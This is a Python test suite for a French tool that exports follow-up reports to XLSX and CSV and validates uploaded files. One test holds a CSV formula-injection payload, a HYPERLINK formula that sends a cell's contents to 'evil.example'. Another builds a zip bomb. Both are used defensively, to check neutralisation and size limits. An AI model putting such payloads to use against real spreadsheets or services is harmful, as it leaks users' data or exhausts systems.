"""The spreadsheet core without a database: workbooks and CSV out, uploads read and checked."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pilotis.followup import spreadsheets as sheets
from pilotis.followup.services import DRAFT, SUBMIT
from pilotis.followup.spreadsheets import (
    ACTIONS,
    FICHES,
    INDICATORS,
    ActionLine,
    CampaignLines,
    CellError,
    FicheLines,
    IndicatorLine,
)

NBSP = "\u00a0"
SCALE = f"(0, 20, 40, 60, 80, 100{NBSP}%)"


def fiche_values(**given: str) -> dict[str, str]:
    """The form's texts of a report (forms.stored_values), empty unless given."""
    values = {"progress_rate": "", "objective_reached": "", "obstacles": "", "comment": ""}
    for action in (11, 12):
        values |= {f"action_{action}_done": "", f"action_{action}_comment": ""}
    for part in ("number", "unit", "text", "baseline", "target"):
        values[f"indicator_21_{part}"] = ""
    return values | given


def campaign(allow_partial: bool = False, **changes) -> CampaignLines:
    """Fiche 2 (two actions due, one indicator, a rate of 40 %) and fiche 3 (nothing yet)."""
    two = FicheLines(
        report_id=5,
        version=2,
        number="2",
        title="Soutenir la parentalité",
        values=fiche_values(
            progress_rate="40",
            comment="Bien parti",
            action_11_done="yes",
            indicator_21_number="12,5",
            indicator_21_unit="familles",
            indicator_21_target="100",
        ),
        actions=[
            ActionLine(11, "A", "Déploiement du programme", "Années 1 à 5"),
            ActionLine(12, "B", "Cours de préparation", "Années 1 et 2"),
        ],
        indicators=[IndicatorLine(21, "Résultat", "Action A", "Familles accompagnées")],
        status="in_progress",
        saved="par Paule Parent le 3 mars 2025 à 14:05",
    )
    three = FicheLines(
        report_id=6,
        version=1,
        number="3",
        title="Offre de soins de proximité",
        values={"progress_rate": "", "objective_reached": "", "obstacles": "", "comment": ""},
        status="to_do",
    )
    fiches = changes.pop("fiches", [two, three])
    return CampaignLines(
        campaign_id=7,
        title="Suivi de l’année 1 (2024) — CLS de Carcassonne",
        allow_partial=allow_partial,
        fiches=fiches,
        **changes,
    )


def workbook(lines: CampaignLines) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(sheets.build_xlsx(lines)))


def save(wb) -> bytes:
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def read(files, lines: CampaignLines, **kwargs) -> sheets.Reading:
    found, errors = sheets.read_files(files)
    assert errors == []
    return sheets.read_upload(found, lines, **kwargs)


def read_xlsx(wb, lines, **kwargs) -> sheets.Reading:
    return read([("suivi.xlsx", save(wb))], lines, **kwargs)


def messages(reading: sheets.Reading) -> list[str]:
    return [str(e) for e in reading.errors]


# --- Out ----------------------------------------------------------------------------------------


def test_the_workbook_is_prefilled_with_french_headers_lists_and_locks():
    wb = workbook(campaign())
    assert wb.sheetnames == ["Lisez-moi", "Fiches", "Actions", "Indicateurs"]
    fiches, actions, indicators = wb["Fiches"], wb["Actions"], wb["Indicateurs"]
    assert [c.value for c in fiches[1]][:6] == [
        "N° de fiche",
        "Intitulé de la fiche",
        "Taux d’avancement (%)",
        "Objectif atteint",
        "Difficultés rencontrées",
        "Commentaire",
    ]
    assert [c.value for c in fiches[2]][:6] == [
        "2", "Soutenir la parentalité", 40, None, None, "Bien parti"
    ]  # fmt: skip
    assert [c.value for c in actions[2]][:6] == [
        "2", "A", "Déploiement du programme", "Années 1 à 5", "Oui", None
    ]  # fmt: skip
    assert [c.value for c in indicators[2]][:9] == [
        "2", "Résultat", "Action A", "Familles accompagnées", 12.5, None, "familles", None, "100"
    ]  # fmt: skip
    for ws in (fiches, actions, indicators):
        assert ws.freeze_panes == "B2"
        assert ws.protection.sheet
        assert ws.column_dimensions[openpyxl.utils.get_column_letter(ws.max_column)].hidden
        assert ws["B2"].protection.locked and ws["B2"].fill.fgColor.rgb.endswith("EEEEEE")
    assert not fiches["C2"].protection.locked and not fiches["F2"].protection.locked
    assert fiches.column_dimensions["B"].width == 48
    lists = {dv.formula1: str(dv.sqref) for dv in fiches.data_validations.dataValidation}
    assert lists == {'"0,20,40,60,80,100"': "C2 C3", '"Oui,Non"': "D2 D3"}
    (done,) = actions.data_validations.dataValidation
    assert done.formula1 == '"Oui,Non"'
    (number,) = indicators.data_validations.dataValidation
    assert number.type == "decimal" and str(number.sqref) == "E2"
    readme = [c.value for c in wb["Lisez-moi"]["A"] if c.value]
    assert readme[0] == "Suivi de l’année 1 (2024) — CLS de Carcassonne"
    assert any("Ne renommez pas les feuilles" in line for line in readme)


def test_partly_is_offered_only_when_the_campaign_allows_it():
    wb = workbook(campaign(allow_partial=True))
    (done,) = wb["Actions"].data_validations.dataValidation
    assert done.formula1 == '"Oui,Non,En partie"'


def test_a_fiche_nobody_may_change_is_all_greyed():
    lines = campaign()
    lines.fiches[0].editable = False
    fiches = workbook(lines)["Fiches"]
    assert fiches["C2"].protection.locked and fiches["F2"].fill.fgColor.rgb.endswith("EEEEEE")
    assert not fiches["C3"].protection.locked


def test_texts_that_look_like_formulas_stay_texts():
    lines = campaign()
    lines.fiches[0].values = fiche_values(comment="=SOMME(A1:A3) à vérifier")
    wb = workbook(lines)
    assert wb["Fiches"]["F2"].data_type == "s"
    assert wb["Fiches"]["F2"].value == "=SOMME(A1:A3) à vérifier"
    assert read_xlsx(wb, lines).updates == []


def test_the_csv_is_for_a_french_spreadsheet():
    data = sheets.build_csv(campaign(), INDICATORS)
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines[0].startswith("N° de fiche;Type;Actions visées;Indicateur;Valeur (nombre);")
    assert lines[1].startswith(
        "2;Résultat;Action A;Familles accompagnées;12,5;;familles;;100;I7-5-2-21-"
    )


def test_the_csv_neutralises_formulas_and_keeps_numbers_as_numbers():
    """Issue 9: a pilot's « =HYPERLINK(…) » is text in the CSV, read back as written."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
    lines = campaign()
    lines.fiches[0].values = fiche_values(
        obstacles=evil, comment="+33 4 68", indicator_21_number="-12,5"
    )
    fiches = sheets.build_csv(lines, FICHES).decode("utf-8-sig")
    assert "'=HYPERLINK" in fiches and "'+33 4 68" in fiches
    assert ";=" not in fiches and '"=' not in fiches
    indicators = sheets.build_csv(lines, INDICATORS).decode("utf-8-sig")
    assert ";-12,5;" in indicators  # a negative number is no formula
    files = [(f"{s}.csv", sheets.build_csv(lines, s)) for s in (FICHES, ACTIONS, INDICATORS)]
    assert read(files, lines) == sheets.Reading()


def test_a_character_xml_cannot_hold_leaves_the_workbook_writable():
    lines = campaign()
    lines.fiches[0].values = fiche_values(obstacles="Retard\x01 du\ufffe partenaire")
    wb = workbook(lines)
    assert "Retard du partenaire" in [c.value for c in wb["Fiches"][2]]
    assert read_xlsx(wb, lines).updates == []


# --- Round trips --------------------------------------------------------------------------------


def test_an_untouched_workbook_or_csv_changes_nothing():
    lines = campaign()
    assert read_xlsx(workbook(lines), lines) == sheets.Reading()
    files = [(f"{s}.csv", sheets.build_csv(lines, s)) for s in (FICHES, ACTIONS, INDICATORS)]
    assert read(files, lines) == sheets.Reading()


def test_changes_come_with_their_cell_label_before_and_after():
    lines = campaign()
    wb = workbook(lines)
    wb["Fiches"]["C2"] = 60
    wb["Fiches"]["D3"] = "non"  # any case
    wb["Actions"]["E3"] = "Non"
    wb["Indicateurs"]["E2"] = 13
    reading = read_xlsx(wb, lines)
    assert reading.errors == []
    two, three = reading.updates
    assert [(c.place, c.label, c.before, c.after) for c in two.changes] == [
        ("Fiches!C2", "Taux d’avancement de la fiche", f"40{NBSP}%", f"60{NBSP}%"),
        ("Actions!E3", "Action B — réalisée", "(non renseigné)", "Non"),
        (
            "Indicateurs!E2",
            "Indicateur « Familles accompagnées » — valeur (nombre)",
            "12,5",
            "13",
        ),
    ]
    assert (two.report_id, two.version, two.intent) == (5, 2, DRAFT)
    assert two.data.progress_rate == 60
    assert two.data.actions == {11: ("yes", ""), 12: ("no", "")}
    assert two.data.indicators[21]["value_number"] == Decimal("13")
    assert two.data.indicators[21]["target"] == "100"  # untouched cells keep their value
    assert [(c.place, c.after) for c in three.changes] == [("Fiches!D3", "Non")]
    assert three.data.objective_reached is False


def test_rates_are_read_as_the_spreadsheet_shows_them():
    lines = campaign()
    wb = workbook(lines)
    wb["Fiches"]["C2"] = "80 %"
    wb["Fiches"]["C3"] = 0.2
    wb["Fiches"]["C3"].number_format = "0%"  # a percentage cell holding 0.2 shows 20 %
    reading = read_xlsx(wb, lines)
    assert [u.data.progress_rate for u in reading.updates] == [80, 20]


def test_a_float_is_read_as_the_spreadsheet_shows_it():
    lines = campaign()
    wb = workbook(lines)
    wb["Indicateurs"]["E2"] = 0.1 + 0.2
    (update,) = read_xlsx(wb, lines).updates
    assert update.data.indicators[21]["value_number"] == Decimal("0.3")


def test_a_number_beyond_excels_precision_goes_out_as_text_and_comes_back_intact():
    lines = campaign()
    lines.fiches[0].values = fiche_values(indicator_21_number="12345678901234,5678")
    wb = workbook(lines)
    assert wb["Indicateurs"]["E2"].value == "12345678901234,5678"
    assert read_xlsx(wb, lines).updates == []


def test_control_characters_are_dropped_from_the_workbook_without_a_false_change():
    lines = campaign()
    lines.fiches[0].values = fiche_values(comment="Bien\x0b parti")
    wb = workbook(lines)
    assert wb["Fiches"]["F2"].value == "Bien parti"
    assert read_xlsx(wb, lines).updates == []


# --- Refused values -----------------------------------------------------------------------------


def test_every_wrong_value_is_named_by_its_cell_and_nothing_is_to_save():
    lines = campaign()
    wb = workbook(lines)
    wb["Fiches"]["C3"] = 45
    wb["Fiches"]["C2"] = "quarante"
    wb["Fiches"]["D2"] = "yes"  # a stored code is not an answer a person types
    wb["Actions"]["E2"] = "Peut-être"
    wb["Actions"]["E3"] = "En partie"
    wb["Indicateurs"]["E2"] = "douze"
    wb["Indicateurs"]["G2"] = "u" * 41
    reading = read_xlsx(wb, lines)
    assert reading.updates == []
    assert messages(reading) == [
        f"Fiches!C2 : « quarante » n’est pas un taux de l’échelle {SCALE}",
        "Fiches!D2 : « yes » n’est pas une réponse possible : Oui ou Non",
        f"Fiches!C3 : 45 n’est pas un taux de l’échelle {SCALE}",
        "Actions!E2 : « Peut-être » n’est pas une réponse possible : Oui ou Non",
        "Actions!E3 : « En partie » n’est pas une réponse autorisée dans cette campagne : "
        "Oui ou Non",
        "Indicateurs!E2 : « douze » n’est pas un nombre : écrivez par exemple 12 ou 12,5, ou "
        "mettez un texte dans la colonne « Valeur (texte) »",
        "Indicateurs!G2 : Ce texte dépasse 40 caractères : raccourcissez-le.",
    ]


def test_the_issue_message_for_a_rate_of_45():
    plain = [
        FicheLines(n, 1, str(n), f"Fiche {n}", fiche_values(), status="to_do") for n in range(1, 7)
    ]
    lines = campaign(fiches=plain)
    wb = workbook(lines)
    wb["Fiches"]["C7"] = 45
    (error,) = read_xlsx(wb, lines).errors
    assert str(error) == f"Fiches!C7 : 45 n’est pas un taux de l’échelle {SCALE}"
    assert (error.sheet, error.cell) == ("Fiches", "C7")


def test_partly_is_accepted_when_the_campaign_allows_it():
    lines = campaign(allow_partial=True)
    wb = workbook(lines)
    wb["Actions"]["E3"] = "en partie"
    (update,) = read_xlsx(wb, lines).updates
    assert update.data.actions[12] == ("partly", "")


def test_a_number_and_a_text_together_are_refused_as_in_the_browser():
    lines = campaign()
    wb = workbook(lines)
    wb["Indicateurs"]["F2"] = "environ douze"
    assert messages(read_xlsx(wb, lines)) == [
        "Indicateurs!F2 : Saisissez soit un nombre, soit un texte, pas les deux."
    ]
    wb["Indicateurs"]["E2"] = None
    (update,) = read_xlsx(wb, lines).updates
    assert update.data.indicators[21]["value_text"] == "environ douze"
    assert update.data.indicators[21]["value_number"] is None


def test_transmitting_requires_what_the_browser_requires():
    lines = campaign()
    wb = workbook(lines)
    wb["Fiches"]["F2"] = "Prêt"
    assert messages(read_xlsx(wb, lines, submit=True)) == [
        "Actions!E3 : Indiquez si l’action a été réalisée pour transmettre la fiche."
    ]
    wb["Actions"]["E3"] = "Oui"
    (update,) = read_xlsx(wb, lines, submit=True).updates
    assert update.intent == SUBMIT


def test_a_transmitted_fiche_stays_transmitted():
    lines = campaign()
    lines.fiches[1].status = "submitted"
    wb = workbook(lines)
    wb["Fiches"]["F3"] = "Ajout"
    assert messages(read_xlsx(wb, lines)) == [
        "Fiches!C3 : Indiquez le taux d’avancement pour transmettre la fiche."
    ]
    wb["Fiches"]["C3"] = 20
    (update,) = read_xlsx(wb, lines).updates
    assert update.intent == SUBMIT


def test_a_fiche_the_uploader_may_not_change_is_refused_at_its_first_changed_cell():
    lines = campaign()
    wb = workbook(lines)
    wb["Fiches"]["C2"] = 60
    wb["Fiches"]["E3"] = "Manque de médecins"
    asked = []

    def may_edit(fiche):
        asked.append(fiche.number)
        return (
            f"vous ne pouvez pas modifier la fiche n°{fiche.number}"
            if fiche.number == "2"
            else None
        )

    reading = read_xlsx(wb, lines, may_edit=may_edit)
    assert messages(reading) == ["Fiches!C2 : vous ne pouvez pas modifier la fiche n°2"]
    assert asked == ["2", "3"]  # asked only for the fiches changed
    # Fiche 3 is valid, but nothing is saved while an error remains (the caller's rule).
    assert [u.number for u in reading.updates] == ["3"]


# --- Rows and references ------------------------------------------------------------------------


def test_a_row_without_its_reference_or_a_duplicate_is_refused():
    lines = campaign()
    wb = workbook(lines)
    wb["Fiches"].append(["4", "Nouvelle fiche", 20])
    wb["Actions"].append([c.value for c in wb["Actions"][2]])
    assert messages(read_xlsx(wb, lines)) == [
        "Fiches!A4 : ligne inconnue : sa référence technique (colonne masquée G) manque ou a "
        "été modifiée. Une fiche ne s’ajoute pas par le tableur : supprimez la ligne, ou copiez "
        "vos saisies dans un tableur téléchargé de nouveau",
        "Actions!A4 : ligne en double : la même ligne figure plus haut",
    ]


def test_a_row_of_a_fiche_gone_since_the_download_is_refused():
    lines = campaign()
    wb = workbook(lines)
    fewer = campaign(fiches=[lines.fiches[0]])
    assert messages(read_xlsx(wb, fewer)) == [
        "Fiches!A3 : ligne inconnue : elle ne correspond à aucune fiche de la campagne (fiche "
        "supprimée depuis le téléchargement ?)"
    ]


def test_an_untouched_row_of_an_action_no_longer_due_is_left_alone():
    lines = campaign()
    wb = workbook(lines)
    lines.fiches[0].actions = lines.fiches[0].actions[:1]
    assert read_xlsx(wb, lines).errors == []
    wb["Actions"]["F3"] = "Fait"
    (error,) = read_xlsx(wb, lines).errors
    assert error.place == "Actions!A3" and "n’est plus suivi(e) cette année" in error.message


def test_a_file_of_another_campaign_is_refused_once():
    lines = campaign()
    wb = workbook(lines)
    other = campaign()
    other.campaign_id = 8
    assert messages(read_xlsx(wb, other)) == [
        "Ce fichier a été téléchargé pour une autre campagne de suivi (un autre plan ou une "
        "autre année) : téléchargez le tableur de cette campagne."
    ]


def test_changes_to_read_only_cells_are_ignored_and_said():
    lines = campaign()
    wb = workbook(lines)
    wb["Fiches"]["B2"] = "Nouveau titre"
    reading = read_xlsx(wb, lines)
    assert reading.updates == [] and reading.errors == []
    assert [str(note) for note in reading.ignored] == [
        "Fiches!B2 : la colonne « Intitulé de la fiche » n’est pas lue à l’envoi (ce contenu se "
        "modifie sur la page du plan) : la modification est ignorée"
    ]


# --- Versions -----------------------------------------------------------------------------------


def test_a_changed_fiche_saved_since_the_download_is_a_conflict_naming_what_changed():
    downloaded = campaign()
    wb = workbook(downloaded)
    wb["Fiches"]["F2"] = "Mon commentaire"
    now = campaign()
    now.fiches[0].version = 3
    now.fiches[0].values = dict(now.fiches[0].values) | {"progress_rate": "60"}
    (error,) = read_xlsx(wb, now).errors
    assert str(error) == (
        "Fiches!F2 : conflit sur la fiche n°2 : elle a été enregistrée par Paule Parent le 3 "
        "mars 2025 à 14:05 après votre téléchargement (modifié depuis : taux d’avancement de la "
        "fiche). Vos modifications de cette fiche ne sont pas appliquées : téléchargez de "
        "nouveau le tableur et reportez-y vos saisies"
    )


def test_an_untouched_fiche_saved_since_the_download_is_left_as_saved():
    downloaded = campaign()
    wb = workbook(downloaded)
    wb["Fiches"]["C3"] = 20
    now = campaign()
    now.fiches[0].version = 3
    now.fiches[0].values = dict(now.fiches[0].values) | {"progress_rate": "60"}
    reading = read_xlsx(wb, now)
    assert reading.errors == []
    assert [u.number for u in reading.updates] == ["3"]


# --- Files --------------------------------------------------------------------------------------


def refusal(*files) -> list[str]:
    found, errors = sheets.read_files(list(files))
    return [str(e) for e in errors]


def test_unreadable_files_say_why():
    assert refusal(("vide.csv", b"")) == ["Le fichier « vide.csv » est vide."]
    assert refusal(("a.xlsx", b"PK\x03\x04abc")) == [
        "Le fichier « a.xlsx » n’est pas un classeur Excel (.xlsx) lisible : enregistrez-le au "
        "format .xlsx, ou envoyez le tableur téléchargé depuis Pilotis."
    ]
    assert refusal(("a.xls", b"\xd0\xcf\x11\xe0" + b"\0" * 40)) == [
        "Le fichier « a.xls » est au format Excel 97-2003 (.xls) : enregistrez-le au format .xlsx."
    ]
    assert refusal(("image.png", b"\x89PNG\r\n\x1a\n\0\0\0")) == [
        "Le fichier « image.png » n’est ni un classeur Excel (.xlsx) ni un fichier CSV lisible : "
        "enregistrez-le au format .xlsx, ou en CSV UTF-8."
    ]
    assert refusal(("notes.csv", "Nom;Prénom\nDupont;Jean\n".encode())) == [
        "Le fichier « notes.csv » n’est pas une feuille du tableur de suivi : sa première ligne "
        "doit être l’en-tête de la feuille Fiches, Actions ou Indicateurs."
    ]
    xlsx = sheets.build_xlsx(campaign())
    assert refusal(("a.xlsx", xlsx), ("b.xlsx", xlsx)) == [
        "Envoyez soit un seul classeur Excel (.xlsx), soit une à trois feuilles en CSV, pas "
        "plusieurs classeurs ni un mélange des deux."
    ]


def test_missing_sheets_and_moved_columns_are_named():
    wb = workbook(campaign())
    del wb["Indicateurs"]
    wb["Fiches"].move_range("D1:D3", cols=5)
    wb["Fiches"].move_range("C1:C3", cols=1)
    assert refusal(("suivi.xlsx", save(wb))) == [
        "Fiches!C1 : la colonne C doit être « Taux d’avancement (%) », le fichier a une colonne "
        "vide : les colonnes ont été déplacées, ajoutées ou supprimées ; remettez-les dans "
        "l’ordre du tableur téléchargé, ou téléchargez-en un nouveau",
        "Indicateurs : la feuille « Indicateurs » manque dans « suivi.xlsx » : ne renommez ni ne "
        "supprimez les feuilles du tableur téléchargé",
    ]


def test_a_cell_filled_outside_the_table_is_refused():
    wb = workbook(campaign())
    wb["Actions"]["J2"] = "note"
    assert refusal(("suivi.xlsx", save(wb))) == [
        "Actions!J2 : cellule remplie hors du tableau : ce qui est écrit là n’est pas lu ; videz-la"
    ]


@pytest.mark.parametrize(
    ("encoding", "delimiter", "bom"),
    [
        ("utf-8", ";", True),
        ("utf-8", ";", False),
        ("cp1252", ";", False),
        ("utf-8", ",", False),
        ("utf-16", "\t", False),
    ],
)
def test_csv_as_spreadsheets_write_it(encoding, delimiter, bom):
    lines = campaign()
    text = sheets.build_csv(lines, INDICATORS).decode("utf-8-sig")
    rows = [line.split(";") for line in text.split("\r\n") if line]
    rows[1][4] = "13,75"  # decimal comma
    rows[1][7] = "10 familles"
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    data = out.getvalue().encode(encoding)
    if bom:
        data = b"\xef\xbb\xbf" + data
    (update,) = read([("indicateurs.csv", data)], lines).updates
    assert update.data.indicators[21]["value_number"] == Decimal("13.75")
    assert update.data.indicators[21]["baseline"] == "10 familles"
    assert [c.place for c in update.changes] == ["Indicateurs!E2", "Indicateurs!H2"]


def test_csv_cells_are_named_by_record_even_across_line_breaks():
    lines = campaign()
    lines.fiches[0].values = fiche_values(obstacles="Deux\nlignes")
    data = sheets.build_csv(lines, FICHES).decode("utf-8-sig")
    assert '"Deux\nlignes"' in data  # fiche 3 starts on the file's fourth line, row 3
    text = data.replace(
        "\r\n3;Offre de soins de proximité;", "\r\n3;Offre de soins de proximité;45"
    )
    found, errors = sheets.read_files([("fiches.csv", text.encode())])
    assert errors == []
    (error,) = sheets.read_upload(found, lines).errors
    assert error.place == "Fiches!C3"


def test_two_csv_files_for_the_same_sheet_are_refused():
    data = sheets.build_csv(campaign(), FICHES)
    assert refusal(("a.csv", data), ("b.csv", data)) == [
        "Fiches : deux fichiers envoyés pour cette feuille (« b.csv »)"
    ]


def test_a_csv_with_moved_columns_is_recognised_and_refused():
    text = sheets.build_csv(campaign(), ACTIONS).decode("utf-8-sig")
    rows = [line.split(";") for line in text.split("\r\n") if line]
    for row in rows:
        row[4], row[5] = row[5], row[4]
    data = "\r\n".join(";".join(r) for r in rows).encode()
    (message,) = refusal(("actions.csv", data))
    assert message.startswith(
        "Actions!E1 : la colonne E doit être « Réalisée cette année », le fichier a la colonne "
        "« Commentaire »"
    )


def test_cell_error_places():
    assert str(CellError("Fiches", "C7", "x")) == "Fiches!C7 : x"
    assert str(CellError("Fiches", "", "x")) == "Fiches : x"
    assert str(CellError("", "", "Tout.")) == "Tout."


# --- Properties ---------------------------------------------------------------------------------

# Texts a person can type: no control character but line breaks and tabs, no surrogate or
# non-character (a workbook cannot hold them; see the control characters test above).
TEXTS = st.text(
    alphabet=st.characters(
        blacklist_categories=("Cs", "Cc", "Cn", "Co"), whitelist_characters="\n\t"
    ),
    max_size=60,
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(stored=TEXTS, typed=TEXTS)
def test_any_comment_round_trips_through_xlsx_and_csv(stored, typed):
    lines = campaign()
    lines.fiches[0].values = fiche_values(comment=stored.strip())
    xlsx = workbook(lines)
    csv_data = sheets.build_csv(lines, FICHES)
    # Untouched: nothing to save, whatever the text (formulas, separators, quotes, accents).
    assert read_xlsx(xlsx, lines).updates == []
    assert read([("fiches.csv", csv_data)], lines).updates == []
    # Typed: the text saved is what was typed, trimmed as the browser's form trims it.
    xlsx["Fiches"]["F2"] = typed
    xlsx["Fiches"]["F2"].data_type = "s"
    reading = read_xlsx(xlsx, lines)
    assert reading.errors == []
    if typed.strip() == stored.strip():
        assert reading.updates == []
    else:
        (update,) = reading.updates
        assert update.data.comment == typed.strip()


def test_a_workbook_too_big_once_unzipped_is_not_opened():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (sheets.MAX_UNZIPPED_BYTES + 1))
    assert len(out.getvalue()) < 100_000
    assert refusal(("bombe.xlsx", out.getvalue())) == [
        "Le fichier « bombe.xlsx » est trop volumineux une fois décompressé."
    ]
